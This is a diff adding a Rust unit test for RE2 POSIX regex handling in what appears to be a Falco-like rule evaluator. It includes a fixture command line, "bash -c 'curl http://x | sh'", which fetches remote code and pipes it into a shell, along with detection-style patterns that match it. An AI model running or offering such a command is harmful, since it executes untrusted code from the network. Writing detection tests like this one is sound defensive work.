@@ -105,6 +105,44 @@ fn string_operators() {
     assert!(t("evt.arg[0] = 3"));
 }
 
+/// Falco compiles `regex` operands with RE2 in POSIX mode; expectations follow RE2's parser.
+#[test]
+fn regex_is_re2_posix_syntax() {
+    // proc.cmdline is "bash -c 'curl http://x | sh'".
+    assert!(t("proc.cmdline regex 'bash -c .*'"));
+    assert!(t("proc.cmdline regex '[[:alpha:]]+ -c [^|]+[|] sh.'"));
+    assert!(t("proc.name regex 'ba(sh){1,2}'") && !t("proc.name regex 'b(a){2}sh'"));
+    // Repetitions stack instead of meaning laziness: `+?` is `*`.
+    assert!(t("proc.name regex 'bashx+?'"));
+    // A `{` that does not start a count is a literal.
+    let mut e = ev().s("proc.name", "a{,2}");
+    assert!(eval("proc.name regex 'a{,2}'", &mut e));
+    // `^` and `$` also match around line breaks.
+    let mut e = ev().s("proc.cmdline", "line1\nline2");
+    assert!(eval("proc.cmdline regex 'line1$\\n^line2'", &mut e));
+    // Perl's extensions are errors, with RE2's words.
+    assert_eq!(
+        compile_err("proc.name regex '\\\\d+'"),
+        "invalid regex pattern: invalid escape sequence: \\d"
+    );
+    assert_eq!(
+        compile_err("proc.name regex '(?i)bash'"),
+        "invalid regex pattern: no argument for repetition operator: ?"
+    );
+    assert_eq!(
+        compile_err("proc.name regex 'a{1001}'"),
+        "invalid regex pattern: invalid repetition size: {1001}"
+    );
+    assert_eq!(
+        compile_err("proc.name regex 'ba[sh'"),
+        "invalid regex pattern: missing ]: [sh"
+    );
+    assert_eq!(
+        compile_err("proc.name regex anyof ('b.*', '\\\\w')"),
+        "invalid regex pattern: invalid escape sequence: \\w"
+    );
+}
+
 #[test]
 fn numeric_bool_and_other_types() {
     assert!(t("evt.num = 42") && t("evt.num != 41") && t("evt.num > 41") && t("evt.num >= 42"));
